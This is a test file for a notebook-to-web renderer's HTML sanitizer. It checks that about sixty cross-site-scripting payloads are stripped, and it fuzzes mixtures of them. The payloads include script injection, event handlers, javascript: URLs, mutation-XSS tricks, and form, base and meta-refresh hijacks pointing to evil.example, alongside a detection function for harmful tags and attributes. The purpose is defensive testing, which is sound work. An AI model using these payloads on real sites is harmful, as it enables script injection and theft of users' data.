import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import type { Element, Nodes } from "hast";
import { fromHtml } from "hast-util-from-html";
import { afterAll, expect, test } from "vitest";
import { readBibliography } from "../../lib/paper/bibliography.js";
import { noGlossary } from "../../lib/paper/glossary.js";
import { newPage, renderHtml, renderMarkdown } from "../../lib/paper/markdown.js";

const folder = mkdtempSync(join(tmpdir(), "paper-hostile-"));
afterAll(() => rmSync(folder, { recursive: true }));

const bibliography = readBibliography();
const freshPage = () =>
  newPage({
    name: "00-x.ipynb",
    site: folder,
    folder,
    bibliography,
    glossary: noGlossary,
    pageOf: () => undefined,
  });

/** What of a page a browser would run, load from elsewhere, send, or take for the site's own. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const visit = (node: Nodes) => {
    if (node.type === "element") found.push(...dangersOf(node));
    if ("children" in node) for (const child of node.children) visit(child);
  };
  visit(fromHtml(html, { fragment: true }));
  return found;
}

const harmful = [
  ...[
    "script",
    "iframe",
    "object",
    "embed",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "input",
    "button",
    "template",
  ],
  ...[
    "frame",
    "frameset",
    "applet",
    "audio",
    "video",
    "source",
    "portal",
    "dialog",
    "foreignObject",
    "use",
    "set",
  ],
];

function dangersOf({ tagName, properties }: Element): string[] {
  const found = harmful.includes(tagName) ? [`<${tagName}>`] : [];
  for (const [name, value] of Object.entries(properties)) {
    const text = String(value).replace(/[\s\p{Cc}]/gu, "");
    if (/^on/i.test(name)) found.push(`${name} of <${tagName}>`);
    if (/^(javascript|vbscript|data:text)/i.test(text)) found.push(`${name}="${text}"`);
    if (["src", "srcSet", "background", "poster"].includes(name) && !/^(pictures\/|data:image\/)/.test(text))
      found.push(`${name}="${text}"`);
    if (name === "style" && /url\(|expression|position|@import|behavior/i.test(text))
      found.push(`style="${text}"`);
    if (name === "id" && /^(text|theme-switch|search-switch|fig-\d+|verdict-\d+)$/.test(text))
      found.push(`id="${text}"`);
  }
  return found;
}

const corpus = [
  "<script>alert(1)</script>",
  "<scr<script>x</script>ipt>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script/x>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x oNeRrOr=alert(1)//",
  '<img """><script>alert(1)</script>">',
  "<img src=javascript:alert(1)>",
  "<img src='https://evil.example/track.gif'>",
  '<img srcset="https://evil.example/a 1x">',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<a href=javascript:alert(1)>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href=' \u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:x'>x</a>",
  "[x](javascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "![x](javascript:alert(1))",
  '[x](https://example.org "\\" onmouseover=alert(1) ")',
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<form action=https://evil.example><input name=q><button>Send</button></form>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<style>body{background:url(https://evil.example)}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<object data=x.swf></object><embed src=x.swf>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<body onload=alert(1)>",
  "<div style='background:url(javascript:alert(1))'>x</div>",
  "<div style='position:fixed;inset:0'>over all</div>",
  "<div style='width:expression(alert(1))'>x</div>",
  "<video src=x onerror=alert(1)></video><audio autoplay onplay=alert(1)></audio>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<textarea></textarea><script>alert(1)</script>",
  "<p id=text>x</p><p id=theme-switch>x</p><p id=fig-1>x</p><a name=verdict-1></a>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "</article></main><script>alert(1)</script>",
  "<table><tr><td><script>alert(1)</script></td></tr></table>",
  '<b title="$\\text{" onmouseover=alert(1) x="}$">x</b>',
  "$\\href{javascript:alert(1)}{x}$ $\\htmlData{onload=alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$",
  "<img alt='$x$' src='$\\text{<script>}$'>",
  "\uE0000\uE001 $x$ <b title='\uE0000\uE001'>x</b>",
  "```html\n<script>alert(1)</script>\n```",
  "```<img/src=x/onerror=alert(1)>\nx\n```",
  "`<script>alert(1)</script>`",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "# <img src=x onerror=alert(1)>",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
];

test.each(corpus)("nothing of %j runs, in Markdown or as an output", async (text) => {
  const page = freshPage();
  const shown = [(await renderMarkdown(text, page)).text, (await renderHtml(text, page)).text];
  shown.push(...page.footnotes.map(({ content }) => content.text));
  for (const html of shown) expect(dangers(html), html).toEqual([]);
});

test("as written, most of them would", () => {
  expect(corpus.filter((text) => dangers(text).length > 0).length).toBeGreaterThan(35);
});

test("what is left out is told, what was meant to be read stays", async () => {
  const page = freshPage();
  const text = "before <iframe src=x></iframe><b onclick=x()>bold</b> after";
  expect((await renderMarkdown(text, page, { where: "Markdown cell 2" })).text).toContain(
    "before <b>bold</b> after",
  );
  expect([...page.warnings]).toEqual([
    "00-x.ipynb, Markdown cell 2: <iframe> is left out.",
    "00-x.ipynb, Markdown cell 2: onClick of <b> is left out.",
  ]);
});

test("no mixture of these runs either", async () => {
  const piece = fc.constantFrom(
    ...corpus,
    ...[
      "<",
      ">",
      '"',
      "'",
      "`",
      "$",
      "$$",
      "\n\n",
      "<b>",
      "</b>",
      "<table>",
      "</p>",
      "<svg>",
      "</svg>",
      "<math>",
    ],
    ...["<!--", "-->", "\\begin{align}", "\\end{align}", "[", "](", ")", "&lt;", "\u0000", "<a href="],
  );
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { minLength: 1, maxLength: 6 }), async (pieces) => {
      const page = freshPage();
      const text = pieces.join("");
      for (const { text: html } of [await renderMarkdown(text, page), await renderHtml(text, page)])
        expect(dangers(html)).toEqual([]);
    }),
    { numRuns: 300 },
  );
});
